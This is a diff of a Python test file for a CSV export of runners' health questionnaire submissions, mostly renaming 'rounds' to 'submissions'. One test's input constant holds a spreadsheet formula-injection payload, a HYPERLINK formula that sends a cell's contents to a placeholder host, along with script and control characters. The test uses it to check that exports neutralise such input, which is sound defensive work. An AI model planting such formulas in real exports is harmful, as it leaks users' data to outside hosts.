@@ -11,7 +11,7 @@ from questionnaire.distance import Distance
 from staff.export.cells import number_cell, text_cell
 from staff.export.spreadsheet import csv_of
 from tests.factories import Chance, as_given, healthy_runner, random_person
-from tests.staff.export.rounds import a_record, a_round, a_round_with
+from tests.staff.export.submissions import a_record, a_submission, a_submission_with
 
 
 @pytest.fixture(scope="module")
@@ -19,12 +19,12 @@ def documents(questionnaire):
     return {questionnaire.version: document_of(questionnaire)}
 
 
-def text_of(rounds, documents):
-    return "".join(csv_of(rounds, documents)).encode().decode("utf-8-sig")
+def text_of(submissions, documents):
+    return "".join(csv_of(submissions, documents)).encode().decode("utf-8-sig")
 
 
-def rows_of(rounds, documents):
-    return list(csv.DictReader(io.StringIO(text_of(rounds, documents), newline="")))
+def rows_of(submissions, documents):
+    return list(csv.DictReader(io.StringIO(text_of(submissions, documents), newline="")))
 
 
 def row_of(one, documents):
@@ -77,7 +77,7 @@ def test_it_begins_with_a_mark_that_says_utf_8(documents):
 
 def test_a_row_says_what_was_answered_and_told(questionnaire, rulebook, documents):
     answers = healthy_runner(rf_other=["long_cough"], km_last_7d=None)
-    one = a_round(questionnaire, rulebook, answers)
+    one = a_submission(questionnaire, rulebook, answers)
     row = row_of(one, documents)
 
     assert row["reference"] == "KL-204"
@@ -102,7 +102,7 @@ def test_a_row_says_what_was_answered_and_told(questionnaire, rulebook, document
 
 
 def test_causes_are_told_with_their_strength(questionnaire, rulebook, documents):
-    one = a_round(questionnaire, rulebook, healthy_runner(longest_recent_km=40))
+    one = a_submission(questionnaire, rulebook, healthy_runner(longest_recent_km=40))
     row, shown = row_of(one, documents), [c for c in one.record["causes"] if c["strength"]]
 
     assert shown
@@ -112,7 +112,7 @@ def test_causes_are_told_with_their_strength(questionnaire, rulebook, documents)
 
 def test_several_ticks_stand_in_one_cell(questionnaire, rulebook, documents):
     answers = healthy_runner(pain_location=["between_blades", "low_back"])
-    row = row_of(a_round(questionnaire, rulebook, answers), documents)
+    row = row_of(a_submission(questionnaire, rulebook, answers), documents)
 
     assert row["pain_location"] == "between_blades; low_back"
     assert row["pain_location_words"] == "Between my shoulder blades; Low back"
@@ -120,13 +120,13 @@ def test_several_ticks_stand_in_one_cell(questionnaire, rulebook, documents):
 
 def test_a_distance_is_in_km_beside_what_was_typed(questionnaire, rulebook, documents):
     given = as_given(questionnaire, healthy_runner()) | {"km_last_7d": Distance(7.3, "mi")}
-    row = row_of(a_round_with(a_record(questionnaire, rulebook, given)), documents)
+    row = row_of(a_submission_with(a_record(questionnaire, rulebook, given)), documents)
 
     assert (row["km_last_7d"], row["km_last_7d_words"]) == ("11.7482112", "7.3 miles")
 
 
 def test_a_stop_before_anything_was_sent_is_told_as_such(questionnaire, rulebook, documents):
-    one = a_round(questionnaire, rulebook, {"rf_now": ["fainted"]}, submitted=None, words={})
+    one = a_submission(questionnaire, rulebook, {"rf_now": ["fainted"]}, submitted=None, words={})
     row = row_of(one, documents)
 
     assert (row["is_complete"], row["sent_utc"], row["causes"]) == ("no", "", "")
@@ -135,7 +135,7 @@ def test_a_stop_before_anything_was_sent_is_told_as_such(questionnaire, rulebook
 
 
 def test_what_cannot_be_read_has_a_row_of_its_own(documents):
-    row = row_of(a_round_with(None, reference=None, words={}), documents)
+    row = row_of(a_submission_with(None, reference=None, words={}), documents)
 
     assert {value for name, value in row.items() if value} == {
         *("k4m7x2p9qt", "2026-11-24T09:30", "Robin Hale", "1", "2026-11-23 12:00", "new")
@@ -153,12 +153,12 @@ def test_every_version_has_the_same_columns_and_old_questions_come_last(question
 
 def test_every_row_of_many_people_has_every_column(questionnaire, rulebook, documents):
     people = (random_person(questionnaire, Chance(number), 0.9) for number in range(40))
-    rounds = [a_round(questionnaire, rulebook, person) for person in people]
-    sheet = io.StringIO(text_of(rounds, documents), newline="")
+    submissions = [a_submission(questionnaire, rulebook, person) for person in people]
+    sheet = io.StringIO(text_of(submissions, documents), newline="")
     lengths = {len(row) for row in csv.reader(sheet)}
 
     assert len(lengths) == 1
-    assert csv.Sniffer().sniff(text_of(rounds, documents)).delimiter == ","
+    assert csv.Sniffer().sniff(text_of(submissions, documents)).delimiter == ","
 
 
 NASTY = '=HYPERLINK("http://a.example?"&A1)\r\n<script>\u202e\x00", "; -1'
@@ -166,8 +166,8 @@ NASTY = '=HYPERLINK("http://a.example?"&A1)\r\n<script>\u202e\x00", "; -1'
 
 def test_nasty_words_reach_no_other_cell(questionnaire, rulebook, documents):
     words = {"ask": NASTY, "stops": NASTY, "stops_rating": 0}
-    tame = a_round(questionnaire, rulebook, healthy_runner())
-    nasty = a_round(questionnaire, rulebook, healthy_runner(), words=words, reference=NASTY)
+    tame = a_submission(questionnaire, rulebook, healthy_runner())
+    nasty = a_submission(questionnaire, rulebook, healthy_runner(), words=words, reference=NASTY)
     expected = '\'=HYPERLINK("http://a.example?"&A1)\n<script>", "; -1'
     differs = dict(row_of(nasty, documents).items() - row_of(tame, documents).items())
 
